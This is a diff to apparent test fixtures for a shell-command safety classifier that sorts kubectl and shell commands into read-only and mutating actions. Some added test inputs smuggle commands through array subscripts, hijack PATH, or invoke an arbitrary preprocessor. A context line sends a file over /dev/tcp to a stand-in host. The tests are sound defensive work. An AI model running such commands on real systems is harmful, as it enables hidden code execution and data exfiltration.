@@ -64,6 +64,7 @@ sed -n '1,20p' x
 sed 's/a/b/g' x
 sort -u x | uniq -c
 cat x 2>/dev/null
+kubectl logs x | rg -n 'error|fail'
 cat <<EOF | grep a
 a
 EOF
@@ -72,6 +73,13 @@ journalctl -u kubelet --since today
 command -v kubectl
 set -euo pipefail; kubectl get pods
 X=1
+date +%s
+date -u
+printf '%s' x
+[ -f x ] && echo yes
+echo $((1 + 2))
+terraform providers
+istioctl pc routes x
 echo done > /dev/null
 
 # nothing at all
@@ -92,10 +100,14 @@ ACTS = [
     ("kubectl delete pod web-6b98cbcd6d-67496", "restart", "pod/web-6b98cbcd6d-67496", ""),
     ("kubectl delete pod web-6b98cbcd6d-67496 db-0", "delete", "pod/web-6b98cbcd6d-67496", ""),
     ("kubectl delete pod debug", "delete", "pod/debug", ""),
+    ("kubectl delete pod web-6b98cbcd6d-67496 --all", "delete", "pod/web-6b98cbcd6d-67496", ""),
+    ("kubectl delete job x --dry-run=false", "delete", "job/x", ""),
+    ("kubectl delete job x --dry-run --dry-run=none", "delete", "job/x", ""),
+    ("kubectl label pod x a=b --local=false", "metadata_change", "pod/x", ""),
     ("kubectl delete pods -l app=web", "delete", "pod", ""),
     ("kubectl delete ns/shop --wait=false", "delete", "namespace/shop", ""),
     ("kubectl delete -f x.yaml", "delete", "", ""),
-    ("kubectl apply -f - <<E\nkind: X\nE", "apply_manifest", "", ""),
+    ("kubectl apply -f - <<E\nkind: X\nE", "apply_manifest", "x", ""),
     ("kubectl create deployment web --image=x", "apply_manifest", "deployment/web", ""),
     ("kubectl create secret generic s --from-literal=a=b", "apply_manifest", "secret/s", ""),
     ("kubectl create ns x", "apply_manifest", "namespace/x", ""),
@@ -198,6 +210,7 @@ find . -name x -delete
 find . -exec true {} +
 find . $X
 sort -o x y
+rg --pre=mystery x
 sort --outp=x y
 uniq a b
 sed -i s/a/b/ x
@@ -207,6 +220,17 @@ sed "$S" y
 awk '{system("true")}' y
 awk '{print > "x"}' y
 date -s 2020-01-01
+date 010100002020
+date --se=x
+printf -v PATH /tmp; kubectl get pods
+for PATH in /tmp; do kubectl get pods; done
+[ -v 'a[$(mystery)]' ]
+unset 'a[$(mystery)]'
+echo $((PATH=1)); kubectl get pods
+kubectl patch deploy x -p '{}' --local=false --unknown
+gcloud run deploy list
+istioctl pc log x --level debug
+terraform providers lock
 hostname x
 tree -o x
 cat x > /dev/tcp/192.0.2.1/80
